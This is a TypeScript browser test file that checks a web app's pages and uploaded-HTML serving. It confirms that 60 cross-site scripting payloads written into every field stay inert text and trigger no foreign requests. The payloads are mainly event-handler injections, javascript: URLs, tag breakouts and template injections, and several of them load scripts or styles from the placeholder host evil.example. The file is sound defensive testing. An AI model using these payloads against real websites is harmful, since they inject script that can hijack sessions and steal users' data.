import type { Page, Request } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { PageWorld } from "../../../test/support/page-world.ts";
import { openWorldFile, signIn, type WorldFile } from "../../../test/support/web-tabs.ts";
import type { JsonObject } from "../../core/shared/json.ts";

/** Whatever runs, sets this; whatever is fetched, asks for this host. */
const act = "document.documentElement.dataset.hit=1";
const tags = [
  "script",
  "img",
  "svg",
  "iframe",
  "object",
  "embed",
  "video",
  "audio",
  "body",
  "input",
  "details",
  "marquee",
  "math",
  "style",
  "link",
  "meta",
  "base",
  "form",
  "template",
  "a",
] as const;

const elements: readonly string[] = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${act}</script>`,
  `<<script>${act}//<</script>`,
  `<img src=x onerror=${act}>`,
  `<img src="x" onerror="${act}" //`,
  `<img/src=x/onerror=${act}>`,
  `<img src=//evil.example/pixel>`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}>`,
  `<body onload=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<details open ontoggle=${act}>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<math><mtext></p><img src=x onerror=${act}></mtext></math>`,
  `<math href="javascript:${act}">x</math>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<a href="javascript:${act}">x</a>`,
  `<a href="data:text/html,<script>${act}</script>">x</a>`,
  `<div style="background:url(javascript:${act})">x</div>`,
  `<x onclick=${act} tabindex=1 autofocus onfocus=${act}>x`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<textarea autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`,
];
const breakouts: readonly string[] = [
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `--><script>${act}</script>`,
  `]]><script>${act}</script>`,
  `" onmouseover="${act}" x="`,
  `' onfocus='${act}' autofocus x='`,
  "`onerror=`",
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `[x](javascript:${act})`,
  `![x](x"onerror="${act})`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
];
const payloads: readonly string[] = [...elements, ...breakouts];

let file: WorldFile;
let server: PageWorld;
let tab: Page;
const violations: string[] = [];
const asked: string[] = [];

beforeAll(async () => {
  file = await openWorldFile();
  ({ server, tab } = file);
  tab.on("console", (message) => {
    if (/Content Security Policy|Trusted/iu.test(message.text())) violations.push(message.text());
  });
  tab.on("dialog", (dialog) => void dialog.dismiss().finally(() => violations.push("a dialog opened")));
  const isForeign = (request: Request) => !request.url().startsWith(server.url) && !request.url().startsWith("data:");
  // What the policy blocks is reported as a request too; it left nothing.
  tab.on("requestfinished", (request) => void (isForeign(request) && asked.push(request.url())));
  tab.on(
    "requestfailed",
    (request) =>
      void (
        isForeign(request) &&
        request.failure()?.errorText !== "csp" &&
        asked.push(`${request.url()} ${request.failure()?.errorText ?? ""}`)
      ),
  );
  await signIn(tab, server);
});

afterAll(() => file[Symbol.asyncDispose]());

/** Opens an address, waits for a text, and finds what a payload would have left behind. */
async function inert(address: string, shown: string): Promise<void> {
  await tab.goto(server.url + address);
  await tab.getByText(shown).filter({ visible: true }).first().waitFor();
  await tab.keyboard.press("Tab"); // focus handlers had their chance
  const found = await tab.evaluate(`({
    hit: document.documentElement.dataset.hit ?? null,
    strange: [...document.querySelectorAll("${["script:not([src^='/assets/'])", "object", "embed", "marquee", "math", "base", "meta[http-equiv]", "form[action^='javascript']", "x", "iframe[srcdoc]"].join(", ")}")].map((one) => one.outerHTML.slice(0, 200)),
    wired: [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some((attribute) => /^on/i.test(attribute.name) || /^\\s*(?:javascript|data:text)/i.test(attribute.value) && ["href", "src", "action", "formaction", "xlink:href"].includes(attribute.name))).map((one) => one.outerHTML.slice(0, 200)),
  })`);
  expect([address, found]).toEqual([address, { hit: null, strange: [], wired: [] }]);
}

async function sent(path: string, body: JsonObject): Promise<JsonObject> {
  const answer = await server.world.asToken("POST", path, { body });
  const document = (await answer.json()) as JsonObject;
  expect([path, answer.status < 300, document]).toEqual([path, true, document]);
  return document;
}

const last = payloads.length - 1;
const plainPayload = payloads[last] ?? "";

test(`${payloads.length} scripts written into every field of a request, a plan, a persona and a file stay text`, async () => {
  expect(payloads).toHaveLength(60);
  expect(new Set(payloads).size).toBe(60);
  expect(tags.every((tag) => payloads.some((payload) => payload.includes(`<${tag}`)))).toBe(true);

  await sent("/api/personas", {
    persona_library: Object.fromEntries(
      payloads.map((payload, at) => [
        `persona-${at}`,
        {
          worldview: payload,
          specializations: [payload.slice(0, 100)],
          tools: [payload.slice(0, 100)],
          skills: ["any"],
          executors: ["human"],
        },
      ]),
    ),
  });
  await inert("/personas", "persona 59");

  for (const payload of payloads) await sent("/api/requests", { title: payload, text: payload });
  await inert("/requests", plainPayload);
  await inert("/", plainPayload);

  const { label } = await server.world.filed("Write the page");
  await sent(`/api/requests/${label}/plan`, {
    document: {
      decomposition: payloads.map((payload, at) => ({
        task: `task-${at}`,
        title: payload,
        persona: "contributor",
        dependencies: [],
        outputs: [`file-${at}.md`],
        executor: "human",
        acceptance: [{ id: "a1", statement: payload, check: { kind: "person", question: payload } }],
      })),
    },
  });
  await inert(`/requests/${label}?tab=plan&task=task-0`, plainPayload);
  await inert(`/requests/${label}?tab=brief`, "Write the page");
  await inert(`/requests/${label}?tab=log`, "filed the request");
  await inert("/inbox", "Approve plan 1");
  await sent(`/api/requests/${label}/pause`, { reason: payloads.join(" ").slice(0, 3_900) });
  await inert(`/requests/${label}?tab=log`, "filed the request");
  await sent(`/api/requests/${label}/resume`, {});
  const view = await server.world.json(server.world.asToken("GET", `/api/requests/${label}/plan`));
  await sent(`/api/plans/${(view["plan"] as { readonly id: string }).id}/approve`, {
    confirm: label,
    reason: payloads.slice(0, 30).join(" "),
  });
  await inert(`/requests/${label}?tab=decisions`, "approve");
  for (const at of [0, 9, 40]) await inert(`/task/${label}/task-${at}`, "a1");
  await inert("/tasks", payloads[0] ?? ""); // offers the first twenty
  expect([violations, asked]).toEqual([[], []]);
});

test("a page of scripts that somebody handed in shows in no origin of ours and runs nothing", async () => {
  const html = `<!doctype html><title>Handed in</title><p>Handed in</p>${payloads.join("\n")}`;
  const uploaded = await server.world.json(
    server.world.asToken("POST", "/api/uploads?name=page.html", { raw: html, headers: { "content-type": "text/html" } }),
  );
  const input = uploaded["input"] as { readonly artifacts: readonly { readonly sha256: string }[] } & JsonObject;
  await sent("/api/requests", { text: "Look at it", inputs: [input] });
  await tab.goto(`${server.url}/api/content/${input.artifacts[0]?.sha256 ?? ""}`);
  const found = await tab.evaluate(
    "({ hit: document.documentElement.dataset.hit ?? null, origin: self.origin, at: location.pathname.slice(0, 13) })",
  );
  expect(found).toEqual({ hit: null, origin: "null", at: "/api/content/" });
  expect(asked).toEqual([]);
});
